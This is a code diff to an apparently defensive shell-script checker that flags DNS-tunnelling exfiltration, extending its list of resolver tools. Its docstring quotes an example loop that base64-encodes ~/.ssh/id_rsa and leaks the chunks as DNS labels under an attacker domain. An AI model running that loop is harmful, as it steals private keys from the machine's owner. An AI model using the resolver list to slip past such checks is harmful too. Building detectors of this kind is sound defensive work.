@@ -8,7 +8,7 @@ $l.x.example; done < <(base64 ~/.ssh/id_rsa)``. Each chunk becomes a label of a
 name under the attacker's domain, and the domain's name server receives it.
 
 Held back (``exfiltration``): a resolver (``dig``, ``nslookup``, ``host``,
-``drill`` ... from :data:`.exfiltration._DNS`) whose host name has, as a label
+``drill``, ``dscacheutil`` ...) whose host name has, as a label
 in front of a domain, a variable ``read`` from a pipeline (or a file) whose data
 is encoded, chunked or secret, or the ``xargs`` placeholder fed by such a pipeline.
 A list of names read and looked up whole (``cat hosts | while read h; do dig
@@ -29,6 +29,9 @@ from .exfiltration import _DNS, _ENCODERS, _reads_sensitive, sensitive_source
 
 __all__ = ["judge_script"]
 
+_RESOLVERS = _DNS | {"dscacheutil", "systemd-resolve", "dog", "doggo", "adnshost", "dnsget", "avahi-resolve",
+                     "dns-sd", "nmap"}  # fmt: skip
+"""What looks a name up (macOS's ``dscacheutil -q host -a name N`` too)."""
 _CHUNKERS = frozenset({"fold", "split", "cut", "sed", "grep"})
 """What cuts encoded data into label-sized pieces (only counts after an encoder or a secret)."""
 _DOMAIN_TAIL = r"[^\s/]*\.[A-Za-z0-9-]+\.[A-Za-z0-9-]+"
@@ -44,7 +47,7 @@ def judge_script(script: Script, home: str) -> Verdict | None:
             name = invocation.name
             if name == "read" and (data or _reads_data_redirect(invocation, home)):
                 fed.update(_read_variables(invocation))
-            if name in _DNS:
+            if name in _RESOLVERS:
                 placeholders = _placeholders(invocation) if data else ()
                 if _spells(invocation, fed, placeholders):
                     return _verdict(
